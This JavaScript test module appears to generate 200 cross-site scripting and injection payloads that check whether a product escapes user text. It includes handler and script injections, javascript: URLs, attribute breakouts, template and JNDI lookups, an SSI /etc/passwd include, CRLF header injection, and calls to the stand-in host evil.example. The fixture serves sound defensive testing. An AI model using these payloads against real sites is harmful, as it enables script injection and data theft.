// Two hundred texts that would be markup or script where a product is careless.
import assert from 'node:assert/strict';

// §R runs, §A opens a dialog, §H marks an element, §N is the number. Each has a mark: of its own, or an
// element at its end.
const HANDLERS = [
  '<img src=x onerror=§R §H>', '<img/src="x"/onerror=§R/§H>', '<IMG SRC=x ONERROR=§R §H>', '<image src=x onerror=§R §H>',
  '<img src=x onerror="&#95;_ran(§N)" §H>', '<img src=x:x onerror\n=\n§R §H>', '<img src=x onerror=§A §H>', '<svg onload=§R §H>',
  '<svg/onload=§R/§H>', '<svg onload=§A §H>', '<svg><animate onbegin=§R attributeName=x dur=1s §H></svg>', '<svg><set onbegin=§R attributeName=x dur=1s §H></svg>',
  '<svg><image href=x onerror=§R §H></image></svg>', '<svg><foreignObject><img src=x onerror=§R §H></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>§R</script></svg>#x" §H></use></svg>',
  '<body onload=§R §H>', '<body onpageshow=§R §H>', '<iframe onload=§R §H></iframe>', '<video src=x onerror=§R §H></video>',
  '<video><source onerror=§R §H></video>', '<audio src=x onerror=§R §H></audio>', '<video poster=//evil.example/§N.png §H></video>',
  '<input autofocus onfocus=§R §H>', '<select autofocus onfocus=§R §H></select>', '<textarea autofocus onfocus=§R §H></textarea>',
  '<button autofocus onfocus=§R §H>x</button>', '<details open ontoggle=§R §H><summary>x</summary></details>', '<marquee onstart=§R §H>x</marquee>',
  '<style onload=§R §H></style>', '<link rel=stylesheet href=x onerror=§R §H>', '<object data=x onerror=§R §H></object>',
  '<embed src=x onerror=§R §H>', '<a onmouseover=§R §H>x</a>', '<p onpointerover=§R §H>x</p>', '<b onclick=§R §H>x</b>',
  '<x-hole onfocusin=§R tabindex=0 §H>x</x-hole>', '<div contenteditable autofocus onfocus=§R §H>x</div>',
  '<div style="animation:x 1s" onanimationstart=§R §H>x</div>', '<input type=image src=x onerror=§R §H>',
  '<button popovertarget=pop-§N onclick=§R §H>x</button><p popover id=pop-§N onbeforetoggle=§R>x</p>',
  '<math><mtext><img src=x onerror=§R §H></mtext></math>', '<frameset onload=§R §H>', '<table background=//evil.example/§N §H><tr><td>x</table>',
  '<dialog open onclick=§R §H>x</dialog>', '<meter onmouseover=§R §H>x</meter>',
];
const SCRIPTS = [
  '<script>§R</script>', '<SCRIPT>§R</SCRIPT>', '<script/x>§R</script>', '<script\t>§R</script\n>', '<script>§A</script>',
  '<script src=//evil.example/§N.js></script>', '<script src="data:text/javascript,§R"></script>', '<script type=module>§R</script>',
  '<scr<script>ipt>§R</scr</script>ipt>', '<svg><script>§R</script></svg>', '<svg><script href="data:text/javascript,§R" /></svg>',
  '<script>import("data:text/javascript,§R")</script>', '<x-hole §H><script>§R<!--', '<script nonce="" async src="https://evil.example/§N.js"></script>',
  '<template §H><script>§R</script></template>',
];
const ADDRESSES = [
  '<a href="javascript:§R" §H>x</a>', '<a href="JaVaScRiPt:§R" §H>x</a>', '<a href="java\tscript:§R" §H>x</a>', '<a href="&#106;avascript&colon;§R" §H>x</a>',
  '<a href="\u0001javascript:§R" §H>x</a>', '<a href="data:text/html,<script>§R</script>" §H>x</a>', '<a href="vbscript:§R" §H>x</a>',
  '<a href=/ ping=//evil.example/§N §H>x</a>', '<a href="https://evil.example/§N" target=_blank §H>x</a>', '<iframe src="javascript:§R" §H></iframe>',
  '<iframe src="javascript:parent.§R" §H></iframe>', '<iframe srcdoc="<script>§R</script>" §H></iframe>', '<iframe src="//evil.example/§N" §H></iframe>',
  '<iframe src="data:text/html,<script>§R</script>" §H></iframe>', '<embed src="javascript:§R" §H>', '<object data="data:text/html,<script>§R</script>" §H></object>',
  '<form action="javascript:§R" §H><button>x</button></form>', '<form §H><button formaction="javascript:§R">x</button></form>',
  '<form §H action=//evil.example/§N method=post><button>x</button></form>', '<button form=bulk formaction=//evil.example/§N §H>x</button>',
  '<area href="javascript:§R" §H>', '<base href="//evil.example/§N/" §H>', '<base href="javascript:/" §H>', '<base target="_top" §H>',
  '<meta http-equiv=refresh content="0;url=//evil.example/§N" §H>', '<meta http-equiv=refresh content="0;url=javascript:§R" §H>',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>§R</script>" §H>', '<link rel=stylesheet href=//evil.example/§N.css §H>',
  '<link rel=prefetch href=//evil.example/§N §H>', '<img src=//evil.example/§N.png §H>', '<img srcset="//evil.example/§N.png 1x" §H>',
  '<svg><a xlink:href="javascript:§R" §H><text>x</text></a></svg>', '<math><mtext href="javascript:§R" §H>x</mtext></math>', 'javascript:§R//', 'data:text/html,<script>§R</script>',
  '//evil.example/§N', 'https://evil.example/§N', '\\\\evil.example\\§N',
];
const BREAKOUTS = [
  '" onmouseover="§R" §H x="', '\' onmouseover=\'§R\' §H x=\'', '` onmouseover=`§R` §H x=`', ' onmouseover=§R §H ', '" autofocus onfocus="§R" §H x="',
  '"><img src=x onerror=§R §H>', '\'><img src=x onerror=§R §H>', '`><img src=x onerror=§R §H>', '></input><svg onload=§R §H>', '"/><script>§R</script>',
  '\\" onmouseover=\\"§R\\" §H x="', '&quot; onmouseover=&quot;§R&quot; x=&quot;', '&#34;><svg onload=§R>', '" href="javascript:§R" §H x="',
  '" formaction="javascript:§R" §H x="', '" srcdoc="<script>parent.§R</script>" §H x="', '" type=image src=x onerror="§R" §H x="',
  '" style="animation:x 1s" onanimationstart="§R" §H x="', '" hx-on:click="§R" hx-get="//evil.example/§N" hx-trigger="load" §H x="', '" data-copy="§R" data-go-on §H x="',
  '" is="x-hole" accesskey=x onclick="§R" §H x="', '</option><option onclick=§R §H>', '</select><img src=x onerror=§R §H>', '</button></form><form action=//evil.example/§N §H>',
  '</title><svg onload=§R §H>', '</textarea><svg onload=§R §H>', '</style><svg onload=§R §H>', '</script><script>§R</script>', '</ScRiPt ><svg onload=§R §H>',
  '</noscript><svg onload=§R §H>', '</template><svg onload=§R §H>', '</svg><img src=x onerror=§R §H>', '</td></tr></table><svg onload=§R §H>', '</pre></code><svg onload=§R §H>',
  '--><svg onload=§R §H>', '--!><svg onload=§R §H>', '<!--><svg onload=§R §H>-->', ']]><svg onload=§R §H>', '<![CDATA[<svg onload=§R §H>]]>', '<?xml version="1.0"?><svg onload=§R §H>',
  '<!DOCTYPE html><svg onload=§R §H>', '"}]}</script><script>§R</script>', '\';§R;//', '";§R;//', '\\\';§R;//', '`-${§R}-`', '*/§R/*', '\n§R\n//',
];
const TEMPLATES = [
  '{{constructor.constructor("§R")()}}', '{{{§R}}}', '${§R}', '#{§R}', '<%= §R %>', '{% raw %}<svg onload=§R §H>{% endraw %}', '[[${§R}]]',
  '<!--#exec cmd="id" --><!--#include virtual="/etc/passwd" -->', '<esi:include src="//evil.example/§N"/>', '${jndi:ldap://evil.example/§N}',
  '<div hx-get="//evil.example/§N" hx-trigger=load §H>x</div>', '<div hx-on:mouseover="§R" §H>x</div>', '<div hx-sse:connect="//evil.example/§N" §H></div>',
  '<hx-partial hx-target="#main" hx-swap=innerHTML §H><script>§R</script></hx-partial>', '\n\ndata: <script>§R</script>\n\nevent: done\n\n', '\r\nSet-Cookie: x=§N\r\n\r\n<script>§R</script>',
];
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=§R §H>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§R&gt;" §H>',
  '<form><math><mtext></form><form §H><mglyph><style></math><img src=x onerror=§R>', '<svg></p><style><a id="</style><img src=x onerror=§R §H>">',
  '<svg><style><g title="</style><img src=x onerror=§R §H>">', '<xmp><p title="</xmp><img src=x onerror=§R §H>">', '<listing §H>&lt;img src=x onerror=§R&gt;</listing>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=§R §H></annotation-xml></math>', '<select §H><template><svg onload=§R></template></select>',
  '<noembed><img title="</noembed><img src=x onerror=§R §H>">',
];
const ENCODED = [
  '&lt;script&gt;§R&lt;/script&gt;', '&#x3c;img src=x onerror=§R&#x3e;', '+ADw-script+AD4-§R+ADw-/script+AD4-', '%3Cscript%3E§R%3C/script%3E', '\\x3cscript\\x3e§R\\x3c/script\\x3e',
  '\\u003cimg src=x onerror=§R\\u003e', '＜script＞§R＜/script＞', '<\u0000script>§R</script>', '<img\u0000 src=x onerror=§R §H>', '\u0000<svg/onload=§R §H>', '<svg\fonload=§R §H>',
  '\u202e<svg onload=§R §H>\u202c', '\u2066\u2028<svg onload=§R §H>\u2069', '\ufeff<svg onload=§R §H>', '\u001b[31m\u0008<svg onload=§R §H>', '<\u017fcript>§R</\u017fcript>',
  `${'A'.repeat(2000)}<svg onload=§R §H>`, `${'"'.repeat(300)}<svg onload=§R §H>`,
];
const STYLES = [
  '<style §H>@import "//evil.example/§N.css";</style>', '<style §H>*{background:url(//evil.example/§N)}</style>', '<p style="width:expression(§R)" §H>x</p>', '<p style="position:fixed;inset:0" §H>x</p>',
  '<img src="//evil.example/§N?§H', '<plaintext §H>', '=HYPERLINK("//evil.example/§N","x")',
];
const NAMES = ['<form id=htmx §H><input name=config></form>', '<img name=body §H>', '<a id=toasts href=x §H>x</a>'];

export const RUN = n => `__ran(${n})`;
export const PAYLOADS = [HANDLERS, SCRIPTS, ADDRESSES, BREAKOUTS, TEMPLATES, MUTATIONS, ENCODED, STYLES, NAMES].flat().map((text, n) =>
  (text.includes('§H') ? text : `${text} <x-hole §H></x-hole>`)
    .replaceAll('§R', RUN(n)).replaceAll('§A', `alert(${n})`).replaceAll('§H', `data-hole=${n} `).replaceAll('§N', n));
assert.equal(new Set(PAYLOADS).size, 200, `${PAYLOADS.length} payloads`);

/** One in lower case without a blank, as an e-mail address may be. */
export const address = n => `"><svg/onload=${RUN(n)}/data-hole=${n}>@evil.example`;
/** One without a blank, a slash or a colon, as a domain may be. */
export const domain = n => `"onpointerover="${RUN(n)}"data-hole="${n}"x="><x-hole>⟦domains.id⟧.number${n}.example`;
/** What browsers and the product leave of a text: without blanks, controls and marks that nobody sees. */
export const bare = text => text.replace(/[\s\p{Cc}\p{Cf}\ufffd]+/gu, '').toLowerCase();
export const NEEDLES = PAYLOADS.map(bare);

const counters = new Map();
/** The next payload for a kind of text that takes so many characters, with the kind; short texts take no controls. */
export function text(kind, most = 5000) {
  const first = kind.endsWith('users.displayName') ? 0 : [...kind].reduce((sum, c) => sum * 31 + c.codePointAt(0), 7) % 200;
  for (;;) {
    const n = counters.get(kind) ?? first;
    counters.set(kind, n + 1);
    const made = `${PAYLOADS[n % 200]} ⟦${kind.split('|').at(-1)}⟧`;
    if (made.length <= most && (most > 200 || !/\p{Cc}/u.test(made))) return made;
  }
}
